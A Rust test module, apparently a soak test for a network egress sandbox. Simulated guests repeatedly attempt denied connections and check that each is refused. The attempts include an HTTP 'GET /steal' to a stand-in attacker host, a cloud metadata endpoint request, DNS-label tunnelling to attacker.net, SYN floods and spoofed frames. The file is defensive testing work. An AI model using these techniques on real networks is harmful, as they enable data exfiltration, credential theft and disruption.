//! One guest of the soak: a misdeed, then what it is allowed, again and again, about once a second.
//! What it keeps open is bounded; every wait has an end.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use etherparse::PacketBuilder;
use hickory_proto::rr::RecordType;
use policy::net::{GATEWAY_IP, GATEWAY_MAC, GUEST_IP, GUEST_MAC};
use world::client::{PATIENT, connect, query};

use crate::load;
use crate::machine::Machine;
use crate::stage::{NAME, SITE, Stage};

/// Nobody may reach it.
const ATTACKER: Ipv4Addr = Ipv4Addr::new(45, 66, 0, 9);
const METADATA: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);
/// Connections that one guest keeps half done.
const KEPT: usize = 6;
const PACE: Duration = Duration::from_millis(1_200);

/// First flights, made once.
#[derive(Debug)]
pub(crate) struct Hellos {
    pub(crate) allowed: Vec<u8>,
    pub(crate) denied: Vec<u8>,
}

/// What one guest saw.
#[derive(Debug, Default)]
pub(crate) struct Told {
    /// Milliseconds to the first byte of each allowed connection.
    pub(crate) first_byte: Vec<f64>,
    pub(crate) failures: u64,
    pub(crate) leaks: u64,
    pub(crate) misdeeds: u64,
    pub(crate) writes: u64,
    pub(crate) problems: Vec<String>,
}

/// The one site, and a name that comes and goes.
pub(crate) fn policy(turn: u64) -> String {
    let more = if turn.is_multiple_of(2) { "" } else { ", \"other.example.com\"" };
    format!("[[rule]]\nallow = [\"{NAME}\"{more}]\n")
}

/// What every guest is allowed: a connection, and 16 KiB that all arrive.
pub(crate) fn control(hello: &[u8]) -> io::Result<Duration> {
    let to = (SITE, 443).into();
    let (stream, first) = load::open(to, hello)?;
    drop(stream);
    load::download(to, hello, 1 << 14)?;
    Ok(first)
}

/// Until it is told to stop.
pub(crate) fn misbehave(
    stage: &Stage,
    machine: &Machine,
    name: &str,
    number: u64,
    hellos: &Hellos,
    stop: &AtomicBool,
) -> Told {
    let (mut told, mut kept) = (Told::default(), Vec::new());
    let mut dice = Dice(number.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    // Not all at the same moment.
    std::thread::sleep(Duration::from_millis(dice.below(1_000)));
    let mut due = Instant::now();
    while !stop.load(Ordering::Relaxed) {
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
        due = (due + PACE).max(Instant::now());
        let deed = dice.below(11);
        if deed == 0 && number.is_multiple_of(4) {
            told.writes += 1;
            let set = stage.set_policy(name, &policy(told.writes));
            if set.status != 200 {
                told.problems.push(format!("{name}: policy: {}", set.json));
                told.failures += 1;
            }
        }
        if let Err(leak) = misdeed(deed, machine, &mut dice, hellos, &mut kept) {
            told.leaks += 1;
            told.problems.push(format!("{name}: {leak}"));
        }
        told.misdeeds += 1;
        while kept.len() > KEPT {
            drop(kept.remove(0));
        }
        match control(&hellos.allowed) {
            Ok(first) => told.first_byte.push(first.as_secs_f64() * 1e3),
            Err(error) => {
                told.failures += 1;
                told.problems.push(format!("{name}: allowed, after {deed}: {error}"));
            }
        }
    }
    told
}

/// One of them. An error says what came back that must not have.
fn misdeed(
    deed: u64,
    machine: &Machine,
    dice: &mut Dice,
    hellos: &Hellos,
    kept: &mut Vec<TcpStream>,
) -> Result<(), String> {
    let https: SocketAddr = (ATTACKER, 443).into();
    match deed {
        // A name that is denied, and an allowed name at the attacker's address: that goes to the true
        // site, which the oracle sees.
        0 => return refused("TLS to a denied name", https, &hellos.denied, b"h"),
        1 => drop(load::open(https, &hellos.allowed)),
        2 => {
            let request = b"GET /steal HTTP/1.1\r\nHost: sink.attacker.net\r\n\r\n";
            return refused("HTTP to a denied name", (ATTACKER, 80).into(), request, b"HTTP/1.1 2");
        }
        3 => {
            let request = b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n";
            return refused("metadata", (METADATA, 80).into(), request, b"HTTP/1.1 2");
        }
        // A tunnel in labels, to our resolver and past it.
        4 => {
            let label = format!("{:016x}{:016x}", dice.next(), dice.next());
            let name = format!("{label}.{label}.attacker.net");
            for server in [GATEWAY_IP, Ipv4Addr::new(8, 8, 8, 8)] {
                ask(server, &name);
            }
        }
        5 => {
            let socket = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
            for port in [443, 53, 1_234, 123] {
                let _ = socket.send_to(&[7; 1_000], (ATTACKER, port));
            }
        }
        // Half-open: SYNs of which nobody will hear again.
        6 => {
            for _ in 0..20 {
                let port = 20_000 + u16::try_from(dice.below(40_000)).unwrap_or(0);
                inject(machine, GUEST_MAC, GUEST_IP, |ip, frame| {
                    let _ = ip.tcp(port, 443, 1, 64_000).syn().write(frame, &[]);
                });
            }
        }
        // Frames of someone else.
        7 => {
            for source in [Ipv4Addr::new(93, 184, 216, 10), Ipv4Addr::new(198, 18, 0, 1)] {
                inject(machine, GUEST_MAC, source, |ip, frame| {
                    let _ = ip.udp(4_000, 53).write(frame, b"spoofed");
                });
            }
            inject(machine, [2, 0, 0, 0, 0, 9], GUEST_IP, |ip, frame| {
                let _ = ip.udp(4_000, 53).write(frame, b"spoofed");
            });
            let _ = machine.cable.inject(&[0xff; 60]);
        }
        // Half-closed, and a hello that never ends.
        8 => kept.extend(load::hold((SITE, 443).into(), &hellos.allowed, dice.next()).inspect(
            |stream| {
                let _ = stream.shutdown(Shutdown::Write);
            },
        )),
        9 => kept.extend(connect(https, PATIENT).inspect(|mut stream| {
            let _ = stream.write_all(hellos.allowed.get(..10).unwrap_or_default());
        })),
        _ => drop(load::download((SITE, 443).into(), &hellos.allowed, 4 << 20)),
    }
    Ok(())
}

/// Says it, and looks that what comes back is not what the far side would answer.
fn refused(what: &str, to: SocketAddr, said: &[u8], answer: &[u8]) -> Result<(), String> {
    let Ok(mut stream) = connect(to, PATIENT) else { return Ok(()) };
    let _ = stream.write_all(said);
    let mut reply = [0; 64];
    match stream.read(&mut reply) {
        Ok(length) if length > 0 && reply.starts_with(answer) => Err(format!("{what}: answered")),
        Err(e) if matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
            Err(format!("{what}: not refused at once"))
        }
        _ => Ok(()),
    }
}

fn ask(server: Ipv4Addr, name: &str) {
    let Ok(socket) = UdpSocket::bind("0.0.0.0:0") else { return };
    let _ = socket.set_read_timeout(Some(Duration::from_secs(1)));
    if let Ok(bytes) = query(name, RecordType::TXT).to_vec() {
        let _ = socket.send_to(&bytes, (server, 53));
        let _ = socket.recv(&mut [0; 1_500]);
    }
}

fn inject(
    machine: &Machine,
    mac: [u8; 6],
    source: Ipv4Addr,
    fill: impl FnOnce(etherparse::PacketBuilderStep<etherparse::IpHeaders>, &mut Vec<u8>),
) {
    let builder =
        PacketBuilder::ethernet2(mac, GATEWAY_MAC).ipv4(source.octets(), ATTACKER.octets(), 64);
    let mut frame = Vec::new();
    fill(builder, &mut frame);
    // A tap that is full loses it, like any card.
    let _ = machine.cable.inject(&frame);
}

/// Numbers that look random, the same in each run.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, limit: u64) -> u64 {
        self.next() % limit
    }
}
